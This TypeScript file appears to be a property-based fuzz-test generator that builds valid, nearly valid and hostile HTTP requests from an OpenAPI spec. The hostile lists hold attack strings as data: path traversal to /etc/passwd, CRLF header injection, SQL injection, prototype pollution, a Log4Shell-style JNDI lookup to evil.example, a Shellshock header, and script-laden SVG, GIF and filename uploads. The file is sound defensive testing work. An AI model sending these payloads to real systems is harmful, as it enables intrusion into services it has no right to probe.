import fc from 'fast-check'
import * as z from 'zod'
import { anything, type JsonSchema, spoilt, valuesOf } from './schema-values.ts'

/** A generated request; the test adds the host and the caller. */
export interface GeneratedCall {
  /** The API operation it was generated from, e.g. `PUT /api/sites/V2/{id}`. */
  operation: string
  method: string
  path: string
  headers: readonly (readonly [name: string, value: string])[]
  body: Buffer | undefined
  /** Whether to send the owner's cookie. */
  byOwner: boolean
}

const jsonSchema = z.record(z.string(), z.unknown())
const openApi = z.object({
  paths: z.record(
    z.string(),
    z.record(
      z.string(),
      z.object({
        parameters: z
          .array(z.object({ name: z.string(), in: z.enum(['path', 'query']), schema: jsonSchema }))
          .default([]),
        requestBody: z
          .object({ content: z.record(z.string(), z.object({ schema: jsonSchema.optional() })) })
          .optional(),
        responses: z.record(z.string(), z.object({ content: z.record(z.string(), z.unknown()).default({}) })),
      }),
    ),
  ),
})

interface Operation {
  name: string
  method: string
  path: string
  parameters: readonly { name: string; in: 'path' | 'query'; schema: JsonSchema }[]
  type: string | undefined
  body: JsonSchema
}

/** All operations of an OpenAPI document, but for streams of events, whose answers do not end. */
export function operationsOf(document: unknown): Operation[] {
  return Object.entries(openApi.parse(document).paths).flatMap(([path, calls]) =>
    Object.entries(calls).flatMap(([method, { parameters, requestBody, responses }]) => {
      if ('text/event-stream' in (responses['200']?.content ?? {})) return []
      const [type, content] = Object.entries(requestBody?.content ?? {})[0] ?? []
      const name = `${method.toUpperCase()} ${path}`
      return { name, method: method.toUpperCase(), path, parameters, type, body: content?.schema ?? {} }
    }),
  )
}

/** Existing ids by parameter name. */
export type KnownIds = Readonly<Record<string, readonly string[]>>

/** Percent-encodes a value; through Buffer, because a lone surrogate has no UTF-8 form. */
const inAddress = (value: unknown) =>
  encodeURIComponent(Buffer.from(typeof value === 'object' ? JSON.stringify(value) : String(value)).toString())

const hostileSegment = fc.oneof(
  fc.constantFrom(
    '%00',
    '%ff',
    '%2e%2e',
    '..%2f..%2fetc%2fpasswd',
    '%c0%ae%c0%ae',
    '..%5c',
    '__proto__',
    'constructor',
    '%0d%0aSet-Cookie:x=1',
    '%F0%9F%92%A9',
    "'%20OR%201=1",
    '%25252e',
    '%',
    '{id}',
    ';x=1',
    '*',
    'a'.repeat(3000),
  ),
  fc.string({ unit: 'binary', maxLength: 20 }).map((text) => inAddress(text)),
)

const hostileHeader: fc.Arbitrary<readonly [string, string]> = fc.oneof(
  fc.tuple(
    fc.constantFrom(
      'Accept',
      'Accept-Encoding',
      'Accept-Language',
      'Authorization',
      'Cache-Control',
      'Cookie',
      'If-Match',
      'If-Modified-Since',
      'If-None-Match',
      'Origin',
      'Range',
      'Referer',
      'Sec-Fetch-Site',
      'User-Agent',
      'X-Forwarded-For',
      'X-Forwarded-Host',
      'X-Forwarded-Proto',
      'X-Http-Method-Override',
      'X-Original-URL',
      'X-Request-Id',
      'Forwarded',
    ),
    fc.oneof(
      fc.constantFrom(
        '',
        '*',
        '*/*;q=9',
        'null',
        'bytes=0-0,1-1,2-2,3-3,4-4',
        'bytes=99999999999999999999-',
        'bytes=-0',
        '"a", W/"b"',
        'festoon_session=x; festoon_session=%00; __proto__=1',
        'sv;q=nan, en;q=-1, *;q=1',
        'https://evil.example',
        '1.2.3.4, ::1, unknown, 999.1.1.1',
        '%{jndi:ldap://evil.example/x}',
        '() { :;}; echo',
        'x'.repeat(4000),
        `${'a,'.repeat(2000)}a`,
      ),
      // printable ASCII, and the upper half of Latin-1
      fc
        .array(fc.integer({ min: 32, max: 255 }), { maxLength: 60 })
        .map((codes) => String.fromCharCode(...codes.filter((code) => code !== 127)).trim()),
    ),
  ),
)

/** Requests for one operation: valid by its schemas, nearly valid, or hostile. */
export function callsOf(operation: Operation, known: KnownIds): fc.Arbitrary<GeneratedCall> {
  return fc.constantFrom('valid', 'nearly', 'hostile').chain((intent) =>
    fc
      .record({
        path: pathsOf(operation, known, intent),
        query: queriesOf(operation, intent),
        body: bodiesOf(operation, intent),
        hostile: fc.array(hostileHeader, { minLength: 0, maxLength: intent === 'hostile' ? 4 : 0 }),
        byOwner: fc.boolean(),
      })
      .map(({ path, query, body, hostile, byOwner }) => ({
        operation: operation.name,
        method: operation.method,
        path: `${path}${query}`,
        headers: [...(body === undefined ? [] : [['Content-Type', body.type] as const]), ...hostile],
        body: body?.bytes,
        byOwner,
      })),
  )
}

function pathsOf({ path, parameters }: Operation, known: KnownIds, intent: string): fc.Arbitrary<string> {
  const names = [...path.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => name)
  const segments = names.map((name) => {
    const { schema = {} } = parameters.find((each) => each.in === 'path' && each.name === name) ?? {}
    const right = valuesOf(schema).map((value) => inAddress(value))
    const ids = known[name] ?? []
    const there = ids.length > 0 ? fc.constantFrom(...ids) : right
    if (intent === 'valid') return fc.oneof({ weight: 4, arbitrary: there }, { weight: 1, arbitrary: right })
    return fc.oneof(there, right, hostileSegment)
  })
  return fc.tuple(...segments).map((values) => {
    const next = values.values()
    return path.replace(/\{\w+\}/g, () => next.next().value ?? '')
  })
}

function queriesOf({ parameters }: Operation, intent: string): fc.Arbitrary<string> {
  const asked = parameters.filter((each) => each.in === 'query')
  const fields = asked.map(({ name, schema }) =>
    fc
      .option(intent === 'valid' ? valuesOf(schema) : fc.oneof(valuesOf(schema), anything))
      .map((value) => (value === null ? [] : [`${name}=${inAddress(value)}`])),
  )
  const noise =
    intent === 'hostile' ? fc.constantFrom('', 'a=%', '%00=%ff', '__proto__[x]=1', 'a&a&a') : fc.constant('')
  return fc.tuple(noise, ...fields).map(([extra, ...parts]) => {
    const query = [...(extra === '' ? [] : [extra]), ...parts.flat()].join('&')
    return query === '' ? '' : `?${query.slice(0, 6000)}`
  })
}

const crlf = '\r\n'
const brokenBytes = fc.constantFrom(
  '',
  '{',
  '[',
  '"\\u0000"',
  '{"a":1,}',
  '{"__proto__":{"x":1}}',
  'NaN',
  '\ufeff{}',
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `{"a":${'9'.repeat(5000)}}`,
  'a=1&b=2&a[]=3',
  'a=%&=&%00=%ff',
)

function bodiesOf(
  { type, body, method }: Operation,
  intent: string,
): fc.Arbitrary<{ type: string; bytes: Buffer } | undefined> {
  if (type?.startsWith('multipart')) return multiparts(intent)
  const json = (value: unknown) => ({ type: 'application/json', bytes: Buffer.from(JSON.stringify(value) ?? '') })
  if (intent === 'hostile' && method !== 'GET')
    return fc.oneof(
      anything.map(json),
      fc.tuple(types, brokenBytes).map(([name, text]) => ({ type: name, bytes: Buffer.from(text) })),
      fc
        .tuple(types, fc.uint8Array({ maxLength: 300 }))
        .map(([name, bytes]) => ({ type: name, bytes: Buffer.from(bytes) })),
    )
  if (type === undefined) return fc.constant(undefined)
  const right = valuesOf(body)
  return (intent === 'valid' ? right : right.chain(spoilt)).map(json)
}

const types = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-16',
  'application/x-www-form-urlencoded',
  'text/plain',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'x'.repeat(500)}`,
  '',
)

/** Beginnings of real and fake files. */
const files = fc.constantFrom(
  Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de', 'hex'),
  Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb', 'hex'),
  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>pwned(1)</script></svg>'),
  Buffer.from('GIF89a/*<script>pwned(1)</script>*/'),
  Buffer.from('RIFF\u0010\u0000\u0000\u0000WEBPVP8 ', 'latin1'),
  Buffer.from('%PDF-1.7'),
  Buffer.alloc(0),
  Buffer.alloc(20_000, 1),
)

function multiparts(intent: string): fc.Arbitrary<{ type: string; bytes: Buffer }> {
  const names = fc.constantFrom('picture.jpg', '../../x.png', '"><script>', '\u0000', 'å😀.heic', 'x'.repeat(2000))
  return fc
    .tuple(files, names, fc.constantFrom('file', 'image', ''), fc.integer({ min: 0, max: 400 }))
    .map(([file, name, field, cut]) => {
      const head = `--festoon${crlf}Content-Disposition: form-data; name="${field}"; filename="${name}"${crlf}Content-Type: image/png${crlf}${crlf}`
      const whole = Buffer.concat([Buffer.from(head), file, Buffer.from(`${crlf}--festoon--${crlf}`)])
      const bytes = intent === 'valid' ? whole : whole.subarray(0, Math.max(0, whole.length - cut))
      return { type: 'multipart/form-data; boundary=festoon', bytes }
    })
}
